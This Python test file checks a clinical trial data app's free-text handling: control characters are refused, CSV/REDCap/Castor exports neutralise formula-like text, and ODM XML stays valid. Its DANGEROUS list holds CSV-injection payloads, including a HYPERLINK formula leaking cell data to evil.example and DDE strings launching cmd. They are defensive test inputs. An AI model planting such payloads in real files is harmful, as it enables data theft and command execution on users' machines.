"""Free text that would run in a spreadsheet or break an XML file: refused when typed, written safely when stored."""

from __future__ import annotations

import csv
import random
import sqlite3
from datetime import timedelta

import pandas as pd
import pytest
from lxml import etree

from mimic_desktop.domain import derive, forms
from mimic_desktop.domain.clock import utc_now
from mimic_desktop.domain.errors import ValidationError
from mimic_desktop.exchange.castor import write_castor
from mimic_desktop.exchange.files import spreadsheet_safe
from mimic_desktop.exchange.flat_csv import Snapshot, write_flat_csv
from mimic_desktop.exchange.odm import REPLACEMENT, write_odm
from mimic_desktop.exchange.redcap import write_redcap
from mimic_desktop.services.accounts import AccountService
from mimic_desktop.services.procedures import ProcedureService
from mimic_desktop.services.simulate import record_procedure
from mimic_desktop.storage.connection import open_store

from .test_odm import schema  # noqa: F401  (the official ODM 1.3.2 XSD, as a fixture)

# Each reaches a spreadsheet cell as a formula unless neutralised (OWASP "CSV Injection").
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
# Every control character but the line breaks and tab that text may hold.
CONTROL = [chr(c) for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F)]
SNAPSHOT = Snapshot("2026-12-07T10:00:00+00:00")
FREE_TEXT = [f for f in forms.all_fields().values() if f.free_text]


@pytest.fixture
def recorded(tmp_path):
    store = open_store(tmp_path / "trial.sqlite")
    user = AccountService(store).create_user("anna", "Anna de Vries", "coordinator", "correct horse battery")
    service = ProcedureService(store, user)
    proc_id = record_procedure(service, random.Random(3), lesions=1, start=utc_now() - timedelta(days=20))
    yield store, service, proc_id
    store.close()


def scope_values(fdef: forms.FieldDef, text: str) -> dict[str, str]:
    return {fdef.name: text}


def put(service: ProcedureService, proc_id: str, fdef: forms.FieldDef, text: str) -> None:
    """Set one free-text field to text in the scope it belongs to (a new complication for a complication field)."""
    if fdef.scope == "complication":
        day = derive.surgery_date(service.load(proc_id))
        service.add_complication(proc_id, {fdef.name: text, "clavien_dindo": "II", "onset_date": day.isoformat()})
    else:
        service.set_values(proc_id, {fdef.name: text}, reason="test")


def test_the_form_has_free_text_in_each_place_people_type_it():
    assert {f.scope for f in FREE_TEXT} >= {"procedure", "complication"}


@pytest.mark.parametrize("character", CONTROL, ids=lambda c: f"U+{ord(c):04X}")
def test_a_control_character_is_refused_in_every_free_text_field_with_the_field_named(recorded, character):
    store, service, proc_id = recorded
    before = store.conn.execute("SELECT count(*) FROM audit").fetchone()[0]
    for fdef in FREE_TEXT:
        with pytest.raises(ValidationError) as refused:
            put(service, proc_id, fdef, f"drain{character}placed")
        assert fdef.text("en") in str(refused.value)
        assert f"U+{ord(character):04X}" in str(refused.value)
    with pytest.raises(ValidationError, match="Note"):
        service.record_event(proc_id, "note", note=f"bleeding{character}stopped")
    event_id = service.load(proc_id).events[-1].id
    with pytest.raises(ValidationError, match="Reason"):
        service.strike_event(event_id, f"wrong{character}key")
    assert store.conn.execute("SELECT count(*) FROM audit").fetchone()[0] == before


def test_the_refusal_is_said_in_dutch():
    from mimic_desktop.domain.values import check_text

    with pytest.raises(ValidationError, match="stuurtekens \\(U\\+000B\\)"):
        check_text("a\x0bb", "reason", lang="nl")


def test_line_breaks_and_tabs_are_text(recorded):
    _, service, proc_id = recorded
    service.set_values(proc_id, {"q_comments": "line one\r\nline two\tindented"})
    assert service.load(proc_id).get("q_comments") == "line one\r\nline two\tindented"


def read_csv(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_free_text_cell_of_every_csv_is_neutralised_and_reads_back_as_typed(recorded, tmp_path, text):
    _, service, proc_id = recorded
    for fdef in FREE_TEXT:
        put(service, proc_id, fdef, text)
    proc = service.load(proc_id)
    flat_files = write_flat_csv([proc], tmp_path / "csv", snapshot=SNAPSHOT)
    redcap_files = write_redcap([proc], tmp_path / "redcap")
    castor_files = write_castor([proc], tmp_path / "castor")
    cells = []
    for path in [*flat_files, *redcap_files, *castor_files]:
        for row in read_csv(path):
            cells += [(path.name, value) for value in row.values() if value.lstrip("'") == text]
    # Each field in the flat table of its scope, the REDCap import file and the Castor file of its scope.
    assert len(cells) >= 3 * len(FREE_TEXT), cells
    for name, value in cells:
        assert value == "'" + text, (name, value)
    frames = [pd.read_csv(path, dtype=str, keep_default_na=False) for path in flat_files]
    read_back = {v[1:] for frame in frames for column in frame for v in frame[column] if v.startswith("'")}
    assert read_back == {text}


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert [spreadsheet_safe(t) for t in ("-3.5", "+2", "-1e-05", "12", "", "Bile leak", "a=b")] == [
        "-3.5",
        "+2",
        "-1e-05",
        "12",
        "",
        "Bile leak",
        "a=b",
    ]
    assert [spreadsheet_safe(t) for t in ("-", "\tx", "\rx", "-3 mm")] == ["'-", "'\tx", "'\rx", "'-3 mm"]


def test_the_data_dictionary_says_how_text_is_written(recorded, tmp_path):
    _, service, proc_id = recorded
    files = write_flat_csv([service.load(proc_id)], tmp_path, snapshot=SNAPSHOT)
    dictionary = {row["column"]: row for row in read_csv(files[-1])}
    for fdef in FREE_TEXT:
        if not fdef.staff_name:
            assert "single quote" in dictionary[fdef.name]["description"]


def test_the_redcap_dictionary_marks_free_text_as_identifier(tmp_path):
    from mimic_desktop.exchange.redcap import dictionary_rows

    marked = {row[0] for row in dictionary_rows() if row[10] == "y"}
    assert marked == {f.name for f in FREE_TEXT if not f.staff_name}


def test_control_characters_stored_before_the_check_still_give_a_valid_odm_file(recorded, tmp_path, schema):  # noqa: F811
    store, service, proc_id = recorded
    service.set_values(proc_id, {"q_comments": "placeholder"})
    # Text saved before free text was checked, or edited into the file by hand.
    with sqlite3.connect(store.path) as raw:
        raw.execute(
            "UPDATE field_values SET value = ? WHERE procedure_id = ? AND field = 'q_comments'",
            ['"pasted\\u0001from\\u000bWord\\u0000"', proc_id],
        )
    proc = service.load(proc_id)
    assert proc.get("q_comments") == "pasted\x01from\x0bWord\x00"
    path = write_odm([proc], tmp_path / "mimic.xml")
    document = etree.parse(str(path))
    assert schema.validate(document), schema.error_log
    values = [v for v in document.getroot().iter() if (v.get("Value") or "").startswith("pasted")]
    assert [v.get("Value") for v in values] == [f"pasted{REPLACEMENT}from{REPLACEMENT}Word{REPLACEMENT}"]
